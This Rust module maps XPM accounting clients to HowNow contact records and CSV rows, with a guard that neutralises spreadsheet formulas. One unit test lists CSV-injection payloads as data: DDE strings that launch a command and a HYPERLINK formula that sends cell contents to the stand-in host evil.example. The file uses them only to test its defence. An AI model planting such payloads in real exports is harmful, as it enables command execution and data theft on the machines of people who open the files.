//! The HowNow contact record: what the firm's document system consumes for each client
//! (SPEC 4.1), derived from the XPM client, one function per rule of HowNow's import map.
//!
//! | HowNow field | rule |
//! |---|---|
//! | Client Name | `Name` |
//! | PhoneNumber | `Phone` |
//! | WebUrl | `Website` |
//! | Client Code | `ClientCode`, else the configured fallback ([`CodeFallback`]) |
//! | Address | postal (`PostalAddress`, `PostalCity`, `PostalRegion`, `PostalPostCode`) when `PostalPostCode` is present, else physical (`Address`, `City`, `Region`, `PostCode`) |
//! | GivenName / FamilyName | the primary contact's `Name` split at the first space (no space: empty given name); no primary contact: the client's `FirstName` / `LastName` |
//! | Email, contact phone | the primary contact's `Email` / `Phone`; no primary contact: the client's |
//!
//! "Primary contact" is the contact whose link says `IsPrimary` and that is not deleted. A client
//! whose contacts have no primary is treated as having no contact (HowNow keeps only the primary).

use std::borrow::Cow;

use hownow_xpm::{Client, Contact};
use serde::Serialize;

use crate::settings::CodeFallback;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AddressSource {
    Postal,
    Physical,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RecordAddress {
    pub source: AddressSource,
    /// Street lines (XPM's multi-line address, lines trimmed).
    pub lines: Option<String>,
    pub city: Option<String>,
    pub region: Option<String>,
    pub post_code: Option<String>,
    pub country: Option<String>,
}

/// One client as HowNow sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HowNowRecord {
    pub uuid: String,
    pub client_code: Option<String>,
    pub name: Option<String>,
    pub phone_number: Option<String>,
    pub web_url: Option<String>,
    pub address: RecordAddress,
    pub given_name: String,
    pub family_name: String,
    pub email: Option<String>,
    pub contact_phone: Option<String>,
    /// `BusinessStructure` is `Individual`.
    pub is_individual: bool,
    /// Neither archived nor deleted.
    pub is_active: bool,
    pub is_archived: bool,
}

impl HowNowRecord {
    /// HowNow's field names, in the column order of every CSV export (`hownow clients --format
    /// csv` and the window's Export), so a file from either imports the same way.
    pub const CSV_HEADER: [&'static str; 17] = [
        "UUID",
        "Client Code",
        "Client Name",
        "PhoneNumber",
        "WebUrl",
        "Address",
        "City",
        "Region",
        "PostCode",
        "Country",
        "GivenName",
        "FamilyName",
        "Email",
        "ContactPhone",
        "IsIndividual",
        "IsActive",
        "IsArchived",
    ];

    /// This record as a CSV row in [`Self::CSV_HEADER`]'s order: absent values empty, flags
    /// `Yes`/`No` as HowNow's import expects.
    pub fn csv_row(&self) -> [&str; 17] {
        fn text(v: &Option<String>) -> &str {
            v.as_deref().unwrap_or_default()
        }
        fn flag(b: bool) -> &'static str {
            if b {
                "Yes"
            } else {
                "No"
            }
        }
        [
            self.uuid.as_str(),
            text(&self.client_code),
            text(&self.name),
            text(&self.phone_number),
            text(&self.web_url),
            text(&self.address.lines),
            text(&self.address.city),
            text(&self.address.region),
            text(&self.address.post_code),
            text(&self.address.country),
            self.given_name.as_str(),
            self.family_name.as_str(),
            text(&self.email),
            text(&self.contact_phone),
            flag(self.is_individual),
            flag(self.is_active),
            flag(self.is_archived),
        ]
    }

    /// [`Self::csv_row`] as a file for people is written: every cell a spreadsheet would take
    /// for a formula made inert ([`inert_cell`]), unless `values` is [`CsvValues::Raw`] (for a
    /// machine import that wants XPM's values unchanged).
    pub fn csv_row_as(&self, values: CsvValues) -> [Cow<'_, str>; 17] {
        self.csv_row().map(|cell| match values {
            CsvValues::Inert => inert_cell(cell),
            CsvValues::Raw => Cow::Borrowed(cell),
        })
    }
}

/// How exported CSV cells are written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CsvValues {
    /// Cells that would start a formula are prefixed with `'` (the default: exports are opened
    /// in Excel and LibreOffice, and client names, emails and notes are typed by anyone).
    #[default]
    Inert,
    /// XPM's values unchanged.
    Raw,
}

/// A cell that a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return, or a fullwidth `＝ ＋ － ＠`) gets a leading `'`, which spreadsheets show as
/// text and do not evaluate (OWASP's CSV injection advice). A plain phone number such as
/// `+64 9 123 4567` is left as it is.
pub fn inert_cell(cell: &str) -> Cow<'_, str> {
    const TRIGGERS: [char; 10] = [
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ];
    match cell.chars().next() {
        Some(first) if TRIGGERS.contains(&first) && !is_phone_number(cell) => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// `+` and then only digits, spaces, dashes, dots and parentheses, with at least six digits.
fn is_phone_number(cell: &str) -> bool {
    let Some(rest) = cell.strip_prefix('+') else {
        return false;
    };
    rest.chars()
        .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '.' | '(' | ')'))
        && rest.chars().filter(char::is_ascii_digit).count() >= 6
        && rest.starts_with(|c: char| c.is_ascii_digit())
}

/// A value with content: trimmed, and `None` when empty.
fn present(v: &Option<String>) -> Option<String> {
    v.as_deref()
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .map(str::to_string)
}

/// Client Name ← `Name`.
pub fn client_name(c: &Client) -> Option<String> {
    present(&c.name)
}

/// PhoneNumber ← `Phone`.
pub fn phone_number(c: &Client) -> Option<String> {
    present(&c.phone)
}

/// WebUrl ← `Website`.
pub fn web_url(c: &Client) -> Option<String> {
    present(&c.website)
}

/// Client Code ← `ClientCode`, else the fallback the admin chose.
pub fn client_code(c: &Client, fallback: CodeFallback) -> Option<String> {
    present(&c.client_code).or_else(|| match fallback {
        CodeFallback::None => None,
        CodeFallback::ExportCode => present(&c.export_code),
        CodeFallback::Uuid => present(&c.uuid),
    })
}

fn trim_lines(v: &Option<String>) -> Option<String> {
    let text = v.as_deref()?;
    let lines: Vec<&str> = text.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    (!lines.is_empty()).then(|| lines.join("\n"))
}

/// Address ← postal when `PostalPostCode` is present, otherwise physical.
pub fn address(c: &Client) -> RecordAddress {
    if present(&c.postal_post_code).is_some() {
        RecordAddress {
            source: AddressSource::Postal,
            lines: trim_lines(&c.postal_address),
            city: present(&c.postal_city),
            region: present(&c.postal_region),
            post_code: present(&c.postal_post_code),
            country: present(&c.postal_country),
        }
    } else {
        RecordAddress {
            source: AddressSource::Physical,
            lines: trim_lines(&c.address),
            city: present(&c.city),
            region: present(&c.region),
            post_code: present(&c.post_code),
            country: present(&c.country),
        }
    }
}

/// The primary contact: linked with `IsPrimary`, not deleted.
pub fn primary_contact(c: &Client) -> Option<&Contact> {
    c.contacts
        .iter()
        .find(|k| k.is_primary == Some(true) && k.is_deleted != Some(true))
}

/// A contact name split at the first space: ("Mary Jane Smith") → ("Mary", "Jane Smith");
/// no space → ("", whole name).
pub fn split_name(name: &str) -> (String, String) {
    let name = name.trim();
    match name.split_once(' ') {
        Some((given, family)) => (given.to_string(), family.trim_start().to_string()),
        None => (String::new(), name.to_string()),
    }
}

/// The person HowNow files a client under: its primary contact, else the client itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Person {
    pub given_name: String,
    pub family_name: String,
    pub email: Option<String>,
    pub phone: Option<String>,
}

/// The person part of the record.
pub fn person(c: &Client) -> Person {
    match primary_contact(c) {
        Some(p) => {
            let (given_name, family_name) = split_name(p.name.as_deref().unwrap_or(""));
            Person {
                given_name,
                family_name,
                email: present(&p.email),
                phone: present(&p.phone),
            }
        }
        None => Person {
            given_name: present(&c.first_name).unwrap_or_default(),
            family_name: present(&c.last_name).unwrap_or_default(),
            email: present(&c.email),
            phone: present(&c.phone),
        },
    }
}

/// The whole record. `c.contacts` must carry the link flags (as
/// [`Store::for_each_client`](crate::Store::for_each_client) hands them over).
pub fn record(c: &Client, fallback: CodeFallback) -> HowNowRecord {
    let person = person(c);
    let archived = c.is_archived == Some(true);
    HowNowRecord {
        uuid: c.uuid.clone().unwrap_or_default(),
        client_code: client_code(c, fallback),
        name: client_name(c),
        phone_number: phone_number(c),
        web_url: web_url(c),
        address: address(c),
        given_name: person.given_name,
        family_name: person.family_name,
        email: person.email,
        contact_phone: person.phone,
        is_individual: c.business_structure.as_deref().map(str::trim) == Some("Individual"),
        is_active: !archived && c.is_deleted != Some(true),
        is_archived: archived,
    }
}

/// A client whose Client Code or name a run changed (HowNow files by code: a change creates a
/// new folder).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FieldChangeReport {
    pub uuid: String,
    pub name: Option<String>,
    pub old: Option<String>,
    pub new: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct MissingCode {
    pub uuid: String,
    pub name: Option<String>,
}

/// Per run: what would surprise HowNow's folder naming.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct CodeReport {
    pub code_changed: Vec<FieldChangeReport>,
    pub name_changed: Vec<FieldChangeReport>,
    /// Clients added or changed by the run that have no code (after the fallback).
    pub missing_code: Vec<MissingCode>,
    /// Live clients without a code in the whole directory.
    pub missing_code_total: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn client() -> Client {
        Client {
            uuid: Some("u1".into()),
            name: Some("Acme Pty Ltd".into()),
            phone: Some("02 9999 0000".into()),
            email: Some("office@acme.example".into()),
            website: Some("https://acme.example".into()),
            first_name: Some("Ann".into()),
            last_name: Some("Smith".into()),
            address: Some("1 Main St".into()),
            city: Some("Sydney".into()),
            region: Some("NSW".into()),
            post_code: Some("2000".into()),
            country: Some("Australia".into()),
            postal_address: Some("  PO Box 5\n   Level 2  \n".into()),
            postal_city: Some("Parramatta".into()),
            postal_region: Some("NSW".into()),
            postal_post_code: Some("2150".into()),
            ..Default::default()
        }
    }

    fn contact(name: &str, primary: bool) -> Contact {
        Contact {
            uuid: Some(format!("k-{name}")),
            name: Some(name.into()),
            email: Some(format!("{}@x.example", name.len())),
            phone: Some("0400 000 000".into()),
            is_primary: Some(primary),
            ..Default::default()
        }
    }

    #[test]
    fn name_phone_website_map_directly() {
        let c = client();
        assert_eq!(client_name(&c).as_deref(), Some("Acme Pty Ltd"));
        assert_eq!(phone_number(&c).as_deref(), Some("02 9999 0000"));
        assert_eq!(web_url(&c).as_deref(), Some("https://acme.example"));
        let blank = Client {
            name: Some("  ".into()),
            ..Default::default()
        };
        assert_eq!(client_name(&blank), None);
    }

    #[test]
    fn client_code_prefers_xpm_then_the_fallback() {
        let mut c = client();
        c.export_code = Some("EXP1".into());
        assert_eq!(client_code(&c, CodeFallback::ExportCode).as_deref(), Some("EXP1"));
        assert_eq!(client_code(&c, CodeFallback::None), None);
        assert_eq!(client_code(&c, CodeFallback::Uuid).as_deref(), Some("u1"));
        c.client_code = Some("ACME01".into());
        assert_eq!(
            client_code(&c, CodeFallback::ExportCode).as_deref(),
            Some("ACME01")
        );
        c.client_code = Some(" ".into());
        assert_eq!(client_code(&c, CodeFallback::None), None);
    }

    #[test]
    fn postal_address_when_it_has_a_post_code() {
        let a = address(&client());
        assert_eq!(a.source, AddressSource::Postal);
        assert_eq!(a.lines.as_deref(), Some("PO Box 5\nLevel 2"));
        assert_eq!(a.city.as_deref(), Some("Parramatta"));
        assert_eq!(a.post_code.as_deref(), Some("2150"));
    }

    #[test]
    fn physical_address_without_a_postal_post_code() {
        let mut c = client();
        c.postal_post_code = Some("".into());
        let a = address(&c);
        assert_eq!(a.source, AddressSource::Physical);
        assert_eq!(a.lines.as_deref(), Some("1 Main St"));
        assert_eq!(a.city.as_deref(), Some("Sydney"));
        assert_eq!(a.region.as_deref(), Some("NSW"));
        assert_eq!(a.post_code.as_deref(), Some("2000"));
        assert_eq!(a.country.as_deref(), Some("Australia"));
    }

    #[test]
    fn names_split_at_the_first_space() {
        assert_eq!(
            split_name("Mary Jane Smith"),
            ("Mary".into(), "Jane Smith".into())
        );
        assert_eq!(split_name("Cher"), ("".into(), "Cher".into()));
        assert_eq!(split_name("  Jo   Bloggs "), ("Jo".into(), "Bloggs".into()));
        assert_eq!(split_name(""), ("".into(), "".into()));
    }

    #[test]
    fn primary_contact_supplies_the_person() {
        let mut c = client();
        c.contacts = vec![contact("Bob Brown", false), contact("Carol de Vries", true)];
        let p = person(&c);
        assert_eq!(
            (p.given_name.as_str(), p.family_name.as_str()),
            ("Carol", "de Vries")
        );
        assert_eq!(p.email.as_deref(), Some("14@x.example"));
        assert_eq!(p.phone.as_deref(), Some("0400 000 000"));
    }

    #[test]
    fn without_a_primary_contact_the_client_supplies_the_person() {
        let mut c = client();
        c.contacts = vec![contact("Bob Brown", false)];
        let p = person(&c);
        assert_eq!((p.given_name.as_str(), p.family_name.as_str()), ("Ann", "Smith"));
        assert_eq!(p.email.as_deref(), Some("office@acme.example"));
        assert_eq!(p.phone.as_deref(), Some("02 9999 0000"));
        // A deleted primary does not count.
        let mut deleted = contact("Dee Leted", true);
        deleted.is_deleted = Some(true);
        c.contacts = vec![deleted];
        assert_eq!(person(&c).given_name, "Ann");
    }

    #[test]
    fn record_flags() {
        let mut c = client();
        c.business_structure = Some("Individual".into());
        c.is_archived = Some(true);
        let r = record(&c, CodeFallback::None);
        assert!(r.is_individual && r.is_archived && !r.is_active);
        assert_eq!(r.uuid, "u1");
    }

    #[test]
    fn formula_like_cells_are_made_inert_but_phone_numbers_are_not() {
        // OWASP's CSV-injection payloads, and their cousins.
        for payload in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
            "\u{FF0B}1+1",
            "\u{FF0D}1+1",
            "\u{FF20}SUM(1)",
            "+64 9 123 4567 =cmd",
            "+(1)",
        ] {
            assert_eq!(inert_cell(payload), format!("'{payload}"), "{payload:?}");
        }
        for plain in [
            "+64 9 123 4567",
            "+1 (800) 555-0100",
            "+61.2.9999.0000",
            "Harbour & Co",
            "",
            "a=b",
            "o'brien@example.com",
        ] {
            assert_eq!(inert_cell(plain), plain, "{plain:?}");
        }
        let mut c = client();
        c.name = Some("=HYPERLINK(\"x\")".into());
        c.phone = Some("+64 9 123 4567".into());
        let r = record(&c, CodeFallback::None);
        let inert = r.csv_row_as(CsvValues::Inert);
        let raw = r.csv_row_as(CsvValues::Raw);
        assert_eq!(inert[2], "'=HYPERLINK(\"x\")");
        assert_eq!(raw[2], "=HYPERLINK(\"x\")");
        assert_eq!(inert[3], "+64 9 123 4567");
    }

    #[test]
    fn csv_row_follows_the_header() {
        let mut c = client();
        c.business_structure = Some("Individual".into());
        c.is_archived = Some(true);
        let r = record(&c, CodeFallback::None);
        let row: std::collections::HashMap<&str, &str> =
            HowNowRecord::CSV_HEADER.into_iter().zip(r.csv_row()).collect();
        assert_eq!(row["UUID"], "u1");
        assert_eq!(Some(row["Client Name"]), r.name.as_deref());
        assert_eq!(Some(row["PhoneNumber"]), r.phone_number.as_deref());
        assert_eq!(row["GivenName"], r.given_name);
        assert_eq!(row["FamilyName"], r.family_name);
        assert_eq!(
            (row["IsIndividual"], row["IsActive"], row["IsArchived"]),
            ("Yes", "No", "Yes")
        );
        assert_eq!(row["Client Code"], "", "absent values are empty cells");
    }
}
